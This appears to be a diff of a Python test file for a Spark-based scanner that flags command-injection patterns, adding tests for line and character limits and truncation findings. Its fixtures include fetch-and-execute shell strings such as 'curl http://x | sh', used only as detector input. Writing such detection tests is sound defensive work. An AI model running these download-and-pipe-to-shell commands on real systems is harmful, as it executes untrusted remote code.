@@ -197,14 +197,30 @@ def test_lookalikes_are_one_to_one():
         ('echo "$(curl http://x | sh)"', "pipeline_to_interpreter", "high"),
     ],
 )
-def test_command_shapes(text, shape, severity):
-    assert commands.scan(text).get(shape) == severity
+def test_command_shapes(spark, text, shape, severity):
+    assert commands_in(spark, text).get(f"command_injection.{shape}") == severity
+
+
+def commands_in(spark, text, **limits) -> dict:
+    found = commands.command_findings(spark.createDataFrame([(1, text)], "i int, t string"), "i", F.col("t"), **limits).collect()
+    assert len({x.category for x in found}) == len(found)
+    return {x.category: x.severity for x in found}
+
+
+def test_commands_behind_many_lines_and_on_long_ones(spark):
+    text = "\n".join([f"curl http://x/{i}" for i in range(60)] + ["curl http://x | sh"])
+    assert commands_in(spark, text)["command_injection.pipeline_to_interpreter"] == "high"
+    long = "echo " + "a" * 5000 + "; curl http://x | sh"
+    assert commands_in(spark, long)["command_injection.pipeline_to_interpreter"] == "high"
+    # a limit that bites says so
+    assert commands_in(spark, text, max_lines=40) == {"command_injection.network_fetch": "medium", "command_injection.truncated": "low"}
+    assert commands_in(spark, long, max_chars=2000) == {"command_injection.truncated": "low"}
 
 
 def test_command_prose(spark):
-    d = spark.createDataFrame([("We shred documents weekly.",), ("curl x | sh",), (None,)], "t string")
-    got = [r.f for r in d.select(commands.command_findings(F.col("t")).alias("f")).collect()]
-    assert [len(x or ()) > 0 for x in got][1]
+    d = spark.createDataFrame([(1, "We shred documents weekly."), (2, "curl x | sh"), (3, None), (4, "```bash\nls\n```")], "i int, t string")
+    got = commands.command_findings(d, "i", F.col("t")).collect()
+    assert {(r.i, r.category, r.severity) for r in got} == {(2, "command_injection.pipeline_to_interpreter", "high"), (2, "command_injection.download_exec_chain", "high")}
 
 
 def zipped(parts: dict[str, bytes]) -> bytes:
